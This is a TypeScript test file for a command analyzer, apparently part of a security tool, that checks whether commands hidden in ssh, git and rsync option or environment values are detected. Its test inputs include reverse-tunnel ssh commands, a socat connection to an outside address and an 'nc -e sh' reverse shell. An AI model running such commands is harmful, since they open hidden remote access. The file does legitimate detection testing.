// Why: proves the analyzer screens shell commands that programs take from options or environment
// variables (ssh ProxyCommand/LocalCommand, git core.sshCommand, GIT_SSH_COMMAND, rsync -e) as
// one more layer, so a tunnel or reverse shell cannot hide in such a value; and that it leaves
// ordinary option values alone.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CommandAnalyzer } from '../src/detect/command/analyzer.js';
import { optionCommands } from '../src/detect/command/exec-options.js';

const analyzer = await CommandAnalyzer.load();
const inner = (t: string): { argv: string[]; via: string }[] => analyzer.analyze(t).commands.filter((c) => c.depth > 0).map((c) => ({ argv: c.argv, via: c.via }));

test('option and environment values that a program runs become records with their origin in via', () => {
  assert.deepEqual(inner('GIT_SSH_COMMAND="ssh -R 9000:localhost:22 -N" git clone u@h:repo')[0], { argv: ['ssh', '-R', '9000:localhost:22', '-N'], via: 'GIT_SSH_COMMAND' });
  assert.deepEqual(inner('git -c core.sshCommand="ssh -D 1080" fetch')[0], { argv: ['ssh', '-D', '1080'], via: 'git core.sshCommand' });
  assert.deepEqual(inner('ssh -o ProxyCommand="socat - TCP:203.0.113.5:443" u@h')[0], { argv: ['socat', '-', 'TCP:203.0.113.5:443'], via: 'ssh ProxyCommand' });
  assert.deepEqual(inner("ssh -oLocalCommand='nc -e sh h 1' -o PermitLocalCommand=yes u@h")[0]!.argv, ['nc', '-e', 'sh', 'h', '1']);
  assert.deepEqual(inner('rsync --rsh="ssh -R 1:h:2" a u@h:b')[0]!.argv, ['ssh', '-R', '1:h:2']);
});

test('ordinary option values are not commands', () => {
  assert.deepEqual(optionCommands('ssh', ['ssh', '-o', 'StrictHostKeyChecking=no', '-i', 'k', 'u@h']), []);
  assert.deepEqual(optionCommands('git', ['git', '-c', 'user.name=ssh -R', 'commit']), []);
  assert.deepEqual(optionCommands('curl', ['curl', '-o', 'ProxyCommand=x', 'http://h/']), []);
  assert.deepEqual(inner('FOO="ssh -R 1:h:2" git pull'), []);
});
